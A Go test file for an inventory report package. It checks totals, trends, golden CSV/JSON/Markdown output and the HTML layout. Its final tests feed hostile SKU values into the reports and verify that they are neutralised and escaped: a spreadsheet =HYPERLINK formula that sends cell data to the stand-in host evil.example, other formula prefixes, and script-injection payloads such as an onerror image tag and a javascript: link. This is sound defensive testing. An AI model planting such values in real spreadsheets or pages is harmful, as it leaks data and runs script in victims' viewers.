package reports

import (
	"bytes"
	"encoding/csv"
	"flag"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

func ptr[T any](v T) *T { return &v }

func at(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return t
}

// sample is the report of the nightly fixture (testdata/nightly), as the
// job computes it, with a history of 20 of the 27 days before.
func sample() *Report {
	rows := []Row{
		{SKU: "SKU-E", LocationID: "S3", MinutesOutOfStock: 1440, Threshold: 10, Reconciled: true, Sold7d: 4, Sold28d: 30,
			DaysOfCover: ptr(0.0)},
		{SKU: "SKU-A", LocationID: "S1", OpeningOnHand: 18, ClosingOnHand: 9, Received: 10, Sold: -21, Returned: 1,
			CountedDelta: 1, NetChange: -9, MinOnHand: 8, Events: 6, AlertsRaised: 1, DaysOfCover: ptr(9.0 / (300.0 / 21)),
			Threshold: 10, StreamingOnHand: ptr[int64](9), Reconciled: true, Sold7d: 101, Sold28d: 300},
		{SKU: "SKU-B", LocationID: "S1", OpeningOnHand: 5, Received: 6, Sold: -9, Damaged: -2, NetChange: -5,
			Events: 4, AlertsRaised: 2, MinutesOutOfStock: 390, DaysOfCover: ptr(0.0), Threshold: 4,
			StreamingOnHand: ptr[int64](0), Reconciled: true, Sold7d: 40, Sold28d: 150},
		{SKU: "SKU-C", LocationID: "S2", OpeningOnHand: 8, ClosingOnHand: 9, TransferIn: 5, TransferOut: -3,
			Adjusted: -1, NetChange: 1, MinOnHand: 8, Events: 3, AlertsRaised: 1, Threshold: 10,
			StreamingOnHand: ptr[int64](10)},
		{SKU: "SKU-D", LocationID: "S2", ClosingOnHand: 3, Received: 3, NetChange: 3, MinOnHand: 3, Events: 1,
			AlertsRaised: 1, Threshold: 10},
	}
	charts := []Series{
		{SKU: "SKU-B", LocationID: "S1", Threshold: 4, Points: []Point{{at("2026-03-10T00:00:00Z"), 5},
			{at("2026-03-10T06:00:00Z"), 0}, {at("2026-03-10T10:30:00Z"), 6}, {at("2026-03-10T20:00:00Z"), 4},
			{at("2026-03-10T22:00:00Z"), 0}}},
		{SKU: "SKU-A", LocationID: "S1", Threshold: 10, Points: []Point{{at("2026-03-10T00:00:00Z"), 18},
			{at("2026-03-10T08:00:00Z"), 13}, {at("2026-03-10T09:00:00Z"), 23}, {at("2026-03-10T11:00:00Z"), 19},
			{at("2026-03-10T12:00:00Z"), 20}, {at("2026-03-10T15:00:00Z"), 8}, {at("2026-03-10T16:00:00Z"), 9}}},
	}
	return New(Meta{Date: "2026-03-10", TimeZone: "UTC", DayStart: at("2026-03-10T00:00:00Z"),
		DayEnd: at("2026-03-11T00:00:00Z"), RunID: "run-golden", GeneratedAt: at("2026-03-11T03:00:05Z"),
		History: history()}, rows, charts)
}

// history is 20 days of daily totals: 2026-02-18 to 2026-03-09, selling
// 20 units a day and 10 more on Saturdays, with 1 to 3 keys below
// threshold; and a day outside the window that must be ignored.
func history() []Day {
	out := []Day{{Date: "2026-02-10", Reported: true, Keys: 5, UnitsSold: 1000}}
	for d := at("2026-02-18T00:00:00Z"); d.Before(at("2026-03-10T00:00:00Z")); d = d.AddDate(0, 0, 1) {
		sold := int64(20)
		if d.Weekday() == time.Saturday {
			sold += 10
		}
		out = append(out, Day{Date: d.Format(time.DateOnly), Reported: true, Keys: 5, UnitsSold: sold,
			KeysBelow: int64(1 + d.Day()%3), KeysOut: int64(d.Day() % 2)})
	}
	return out
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./reports -run %s -update to create it)", err, t.Name())
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from the golden file; got:\n%s", name, got)
	}
}

func TestNew(t *testing.T) {
	r := sample()
	tt := r.Totals
	if tt.Keys != 5 || tt.SKUs != 5 || tt.Locations != 3 || tt.Events != 14 || tt.Sold != -30 ||
		tt.Received != 19 || tt.NetChange != -10 || tt.KeysOutOfStock != 2 || tt.KeysStockedOut != 2 ||
		tt.KeysBelow != 5 || tt.AlertsRaised != 5 || tt.Mismatches != 2 || tt.MinutesOutOfStock != 1830 {
		t.Errorf("totals = %+v", tt)
	}
	// Trends: the rows' 7 and 28 days; the 7 days before (Feb 25 to Mar 3,
	// one Saturday) from the history; 21 of the 28 days have a summary.
	if tt.Sold7d != 145 || tt.Sold28d != 480 || tt.SoldPrev7d != 150 || tt.TrendDays != 21 ||
		tt.SoldWoWPct == nil || math.Abs(*tt.SoldWoWPct-(-5.0/150*100)) > 1e-9 {
		t.Errorf("trend totals = sold_7d %d, sold_28d %d, sold_prev_7d %d, trend_days %d, wow %v",
			tt.Sold7d, tt.Sold28d, tt.SoldPrev7d, tt.TrendDays, tt.SoldWoWPct)
	}
	if len(r.Days) != 28 || r.Days[0].Date != "2026-02-11" || r.Days[0].Reported || !r.Days[7].Reported ||
		r.Days[27] != (Day{Date: "2026-03-10", Reported: true, Keys: 5, UnitsSold: 30, KeysBelow: 5, KeysOut: 2}) {
		t.Errorf("days = %+v", r.Days)
	}
	if len(r.StockOuts) != 2 || r.StockOuts[0].SKU != "SKU-E" || r.StockOuts[1].SKU != "SKU-B" {
		t.Errorf("stock-outs = %v, want SKU-E then SKU-B", r.StockOuts)
	}
	if len(r.TopMovers) != 4 || r.TopMovers[0].SKU != "SKU-A" || r.TopMovers[1].SKU != "SKU-B" {
		t.Errorf("top movers = %v, want SKU-A, SKU-B first and no idle key", r.TopMovers)
	}
	// Out of stock first (SKU-E short by 10, then SKU-B by 4), then the
	// fewest days of cover (SKU-A), then keys that sold nothing by
	// shortfall (SKU-D by 7, SKU-C by 1).
	var order []string
	for _, x := range r.BelowThreshold {
		order = append(order, x.SKU)
	}
	if got := strings.Join(order, " "); got != "SKU-E SKU-B SKU-A SKU-D SKU-C" {
		t.Errorf("below threshold = %s, want SKU-E SKU-B SKU-A SKU-D SKU-C", got)
	}
	if r.Rows[0].SKU != "SKU-A" || r.Charts[0].SKU != "SKU-A" {
		t.Errorf("rows and charts are not sorted by key")
	}
}

func TestCSVGolden(t *testing.T) {
	var b bytes.Buffer
	if err := WriteCSV(&b, sample()); err != nil {
		t.Fatal(err)
	}
	golden(t, "summary.csv", b.Bytes())
}

func TestJSONGolden(t *testing.T) {
	var b bytes.Buffer
	if err := WriteJSON(&b, sample()); err != nil {
		t.Fatal(err)
	}
	golden(t, "summary.json", b.Bytes())
	back, err := ReadJSON(bytes.NewReader(b.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(back.Totals, sample().Totals) || len(back.Rows) != 5 || *back.Rows[0].DaysOfCover != 9.0/(300.0/21) ||
		!reflect.DeepEqual(back.Days, sample().Days) {
		t.Errorf("summary.json does not read back: %+v", back.Totals)
	}
}

func TestMarkdownGolden(t *testing.T) {
	var b bytes.Buffer
	if err := WriteMarkdown(&b, sample()); err != nil {
		t.Fatal(err)
	}
	golden(t, "summary.md", b.Bytes())
}

func TestHTML(t *testing.T) {
	var b bytes.Buffer
	if err := WriteHTML(&b, sample()); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	if *update {
		// Kept for looking at in a browser; not compared (SVG output
		// belongs to the chart library).
		os.WriteFile(filepath.Join("testdata", "index.html"), b.Bytes(), 0o644)
	}
	headline := map[string]string{"keys": "5", "events": "14", "received": "19", "sold": "30", "net": "-10",
		"closing": "21", "out": "2", "stocked-out": "2", "below": "5", "sold-7d": "145", "alerts": "5", "mismatches": "2"}
	for id, want := range headline {
		re := regexp.MustCompile(`id="` + id + `">([^<]*)<`)
		m := re.FindStringSubmatch(page)
		if m == nil || m[1] != want {
			t.Errorf("headline %s = %v, want %s", id, m, want)
		}
	}
	for _, want := range []string{
		`<td class="k">SKU-E</td><td class="k">S3</td><td>24h 00m</td>`,      // out all day
		`<td class="k">SKU-B</td><td class="k">S1</td><td>6h 30m</td>`,       // 270 + 120 minutes
		`<td class="k">SKU-C</td><td class="k">S2</td><td>9</td><td>10</td>`, // mismatch: batch 9, stream 10
		`<td class="k">SKU-D</td><td class="k">S2</td><td>3</td><td>none</td>`,
		`<h3>SKU-A @ S1</h3>`, `<h3>SKU-B @ S1</h3>`, "SOLD", "TRANSFER_OUT",
	} {
		if !strings.Contains(page, want) {
			t.Errorf("page lacks %q", want)
		}
	}
	if n := strings.Count(page, "<svg"); n != 5 {
		t.Errorf("page has %d SVG charts, want 5 (2 trends, reasons, 2 keys)", n)
	}
	// Offline: no script, stylesheet, image or font fetched from anywhere.
	for _, bad := range []string{"<script", "<link", "src=", "@import", "url("} {
		if strings.Contains(page, bad) {
			t.Errorf("page contains %q: it must be self-contained", bad)
		}
	}
	if strings.Count(page, "http") != strings.Count(page, "http://www.w3.org/") {
		t.Errorf("page refers to a URL other than the SVG namespaces")
	}
}

func TestHTMLLayout(t *testing.T) {
	var b bytes.Buffer
	if err := WriteHTML(&b, sample()); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	header := page[strings.Index(page, "<header>"):strings.Index(page, "</header>")]
	if strings.Contains(header, "run-golden") {
		t.Errorf("the header shows the raw run id: %s", header)
	}
	if !strings.Contains(page, "run run-golden") {
		t.Errorf("the run id is nowhere on the page")
	}
	// One spelling of the reasons: as the adjustments and tables have them.
	for _, bad := range []string{"XFER", "Transfer in"} {
		if strings.Contains(page, bad) {
			t.Errorf("page spells a reason %q", bad)
		}
	}
	if n := strings.Count(page, ">TRANSFER_IN<"); n != 2 {
		t.Errorf("TRANSFER_IN appears %d times as a label, want 2 (chart and table)", n)
	}
	// Units sold are positive everywhere: the headline, the movements table.
	if !strings.Contains(page, `<td class="k">SOLD</td><td class="k">out of stock</td><td>30</td>`) {
		t.Errorf("the movements table does not show 30 units sold as a positive number")
	}
	if strings.Contains(page, ">-30<") || strings.Contains(page, ">-21<") {
		t.Errorf("page shows a negative number of units sold")
	}
	// Trends: the week over week, the 28-day charts, the days missing.
	for _, want := range []string{`id="sold-7d">145<`, `▼ 3.3%</span> vs the 7 days before (150)`,
		`<h3>Units sold per day</h3>`, `<h3>Keys below threshold at close</h3>`,
		`7 of the 28 days come before the warehouse's data (grey, 2026-02-11 to 2026-02-17)`} {
		if !strings.Contains(page, want) {
			t.Errorf("page lacks %q", want)
		}
	}
	// Below threshold: out of stock first, then by days of cover, with the
	// shortfall.
	table := page[strings.Index(page, `id="below-threshold"`):]
	table = table[:strings.Index(table, "</table>")]
	var order []string
	for _, m := range regexp.MustCompile(`<td class="k">(SKU-[A-E])</td>`).FindAllStringSubmatch(table, -1) {
		order = append(order, m[1])
	}
	if got := strings.Join(order, " "); got != "SKU-E SKU-B SKU-A SKU-D SKU-C" {
		t.Errorf("below-threshold table order = %s", got)
	}
	if !strings.Contains(table, `<span class="tag OUT">OUT</span></td><td>0.0</td><td>10</td><td>0</td><td>10</td>`) {
		t.Errorf("SKU-E's row lacks its days of cover, shortfall 10, closing 0, threshold 10:\n%s", table)
	}
}

// TestHTMLAtScale renders 1,500 keys below threshold: the lists are cut at
// ListLimit and say how many more, with thousands separators.
func TestHTMLAtScale(t *testing.T) {
	var rows []Row
	for i := range 1500 {
		rows = append(rows, Row{SKU: fmt.Sprintf("SKU-%05d", i), LocationID: "S1", ClosingOnHand: int64(i % 7),
			Threshold: 10, Sold: -3, Events: 1, Sold28d: 30, Reconciled: true})
	}
	r := New(Meta{Date: "2026-03-10", TimeZone: "UTC", DayStart: at("2026-03-10T00:00:00Z"),
		DayEnd: at("2026-03-11T00:00:00Z")}, rows, nil)
	var b bytes.Buffer
	if err := WriteHTML(&b, r); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	for _, want := range []string{"Below threshold at close (1,500)", "and 1,475 more in summary.csv", `id="keys">1,500<`} {
		if !strings.Contains(page, want) {
			t.Errorf("page lacks %q", want)
		}
	}
	table := page[strings.Index(page, `id="below-threshold"`):]
	table = table[:strings.Index(table, "</table>")]
	if n := strings.Count(table, "<tr"); n != listLimit+1 {
		t.Errorf("below-threshold table has %d rows, want %d and a header", n-1, listLimit)
	}
	if len(page) > 200_000 {
		t.Errorf("page is %d bytes for 1,500 keys: the lists are not cut", len(page))
	}
}

// TestWithoutStream: a report from a CSV alone, where no key has a
// streaming stock, says there was no stream to compare with instead of
// showing every key with events as a mismatch in red; with a stream, a
// mismatch is still shown as one.
func TestWithoutStream(t *testing.T) {
	r := sample()
	rows := slices.Clone(r.Rows)
	for i := range rows {
		rows[i].StreamingOnHand, rows[i].Reconciled = nil, rows[i].Events == 0
	}
	csvOnly := New(Meta{Date: r.Date, TimeZone: r.TimeZone, DayStart: r.DayStart, DayEnd: r.DayEnd}, rows, nil)
	if csvOnly.StreamCompared() || csvOnly.Totals.StreamKeys != 0 || csvOnly.Totals.Mismatches != 4 {
		t.Fatalf("without a stream: compared %v, stream keys %d, mismatches %d; want false, 0, 4",
			csvOnly.StreamCompared(), csvOnly.Totals.StreamKeys, csvOnly.Totals.Mismatches)
	}
	if !r.StreamCompared() || r.Totals.StreamKeys != 3 {
		t.Fatalf("with a stream: compared %v, stream keys %d; want true, 3", r.StreamCompared(), r.Totals.StreamKeys)
	}
	var b bytes.Buffer
	if err := WriteHTML(&b, csvOnly); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	card := page[strings.LastIndex(page[:strings.Index(page, `id="mismatches"`)], `<div class="card`):]
	card = card[:strings.Index(card, "</div></div>")]
	if strings.Contains(card, "bad") || !strings.Contains(page, "no stream to compare with") ||
		!strings.Contains(page, `id="no-stream"`) || strings.Contains(page, `id="mismatch-table"`) {
		t.Errorf("the page of a CSV-only report shows mismatches:\n%s", card)
	}
	b.Reset()
	if err := WriteMarkdown(&b, csvOnly); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "| no stream to compare with |") {
		t.Errorf("the Markdown of a CSV-only report does not say there was no stream:\n%s", b.String())
	}
	b.Reset()
	if err := WriteHTML(&b, r); err != nil {
		t.Fatal(err)
	}
	if page := b.String(); !strings.Contains(page, `<div class="card bad"><div class="label">Stream mismatches</div><div class="value" id="mismatches">2<`) ||
		strings.Contains(page, "no stream to compare with") {
		t.Errorf("the page of a report with a stream does not show its 2 mismatches in red")
	}
}

func TestRoundTicks(t *testing.T) {
	for _, tc := range []struct {
		lo, hi float64
		want   string
	}{
		{0, 3, "0 1 2 3"},
		{0, 23, "0 5 10 15 20 25"},
		{0, 784, "0 200 400 600 800"},
		{0, 14071, "0 5,000 10,000 15,000"},
		{-7, 20, "-10 0 10 20"},
		{0, 0, "0 1"},
	} {
		ticks, rng := roundTicks(tc.lo, tc.hi)
		var got []string
		for _, tk := range ticks {
			got = append(got, tk.Label)
		}
		if strings.Join(got, " ") != tc.want || rng.Min != ticks[0].Value || rng.Max != ticks[len(ticks)-1].Value {
			t.Errorf("roundTicks(%v, %v) = %v (range %v..%v), want %s", tc.lo, tc.hi, got, rng.Min, rng.Max, tc.want)
		}
	}
}

// TestStockChartAxis: a key whose stock never went negative is drawn from
// zero, one that did from below zero, and the axis says units.
func TestStockChartAxis(t *testing.T) {
	for _, tc := range []struct {
		points  []int64
		wantLow string
	}{{[]int64{18, 13, 9}, ">0<"}, {[]int64{2, -3, 1}, ">-5<"}} {
		s := Series{SKU: "S", LocationID: "L", Threshold: 10}
		for i, v := range tc.points {
			s.Points = append(s.Points, Point{Time: at("2026-03-10T00:00:00Z").Add(time.Duration(i) * time.Hour), OnHand: v})
		}
		svg, err := stockChartSVG(s, at("2026-03-10T00:00:00Z"), at("2026-03-11T00:00:00Z"), "UTC")
		if err != nil {
			t.Fatal(err)
		}
		h := string(svg.HTML)
		if !strings.Contains(h, ">units<") {
			t.Errorf("%v: the y-axis is not named units", tc.points)
		}
		if !strings.Contains(h, tc.wantLow) || (tc.wantLow == ">0<" && strings.Contains(h, ">-")) {
			t.Errorf("%v: y-axis does not start at %s", tc.points, tc.wantLow)
		}
	}
}

// hostileSample is sample() with keys a spreadsheet would run as formulas
// and a Markdown viewer would render as HTML or links.
func hostileSample() *Report {
	r := sample()
	keys := []struct{ sku, loc string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+1"},
		{"-5", "@SUM(A1:A9)"},
		{"\tTAB", "\rCR"},
		{`<img src=x onerror=alert(1)>`, `[x](javascript:alert(1))`},
		{"*bold*_under_`code`|pipe|~strike~", `<!-- comment --> & \escape`},
	}
	for i, k := range keys {
		r.Rows[i].SKU, r.Rows[i].LocationID = k.sku, k.loc
	}
	r.BelowThreshold, r.StockOuts, r.TopMovers = r.Rows, r.Rows, r.Rows
	return r
}

// TestCSVNeutralisesFormulas: a text cell that starts like a formula gets
// a leading quote (OWASP's advice); numbers, negative ones included, stay
// numbers, and the CSV reads back to the same cells otherwise.
func TestCSVNeutralisesFormulas(t *testing.T) {
	var b bytes.Buffer
	r := hostileSample()
	if err := WriteCSV(&b, r); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][2]string{
		{`'=HYPERLINK("http://evil.example/?"&A1,"click")`, "'+1+1"},
		{"'-5", "'@SUM(A1:A9)"},
		{"'\tTAB", "'\rCR"},
		{`<img src=x onerror=alert(1)>`, `[x](javascript:alert(1))`},
		{"*bold*_under_`code`|pipe|~strike~", `<!-- comment --> & \escape`},
	}
	for i, w := range want {
		rec := recs[i+1]
		if rec[1] != w[0] || rec[2] != w[1] {
			t.Errorf("row %d: sku %q location %q, want %q %q", i, rec[1], rec[2], w[0], w[1])
		}
		for j, cell := range rec {
			if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
				t.Errorf("row %d, %s = %q starts like a formula", i, csvColumns[j], cell)
			}
		}
	}
	// Negative numbers stay numbers.
	sold, net := slices.Index(csvColumns, "sold"), slices.Index(csvColumns, "net_change")
	for i, x := range r.Rows {
		if got, want := recs[i+1][sold], fmt.Sprint(x.Sold); got != want {
			t.Errorf("row %d: sold %q, want %s", i, got, want)
		}
		if got, want := recs[i+1][net], fmt.Sprint(x.NetChange); got != want {
			t.Errorf("row %d: net_change %q, want %s", i, got, want)
		}
	}
	if !slices.ContainsFunc(r.Rows, func(x Row) bool { return x.Sold < 0 }) {
		t.Fatal("the sample sells nothing: no negative number is checked")
	}
}

// TestMarkdownEscapes: no raw HTML, link or emphasis from a SKU or a
// location reaches summary.md, and every key is there, escaped.
func TestMarkdownEscapes(t *testing.T) {
	var b bytes.Buffer
	if err := WriteMarkdown(&b, hostileSample()); err != nil {
		t.Fatal(err)
	}
	md := b.String()
	for _, bad := range []string{"<img", "<!--", "[x](", "*bold*", "_under_", "`code`", "|pipe|", "~strike~", " & "} {
		if strings.Contains(md, bad) {
			t.Errorf("summary.md has %q raw:\n%s", bad, md)
		}
	}
	for _, want := range []string{
		"&lt;img src=x onerror=alert(1)&gt; @ \\[x\\](javascript:alert(1))",
		"\\*bold\\*\\_under\\_\\`code\\`\\|pipe\\|\\~strike\\~ @ &lt;!-- comment --&gt; &amp; \\\\escape",
	} {
		if !strings.Contains(md, want) {
			t.Errorf("summary.md lacks %q:\n%s", want, md)
		}
	}
}
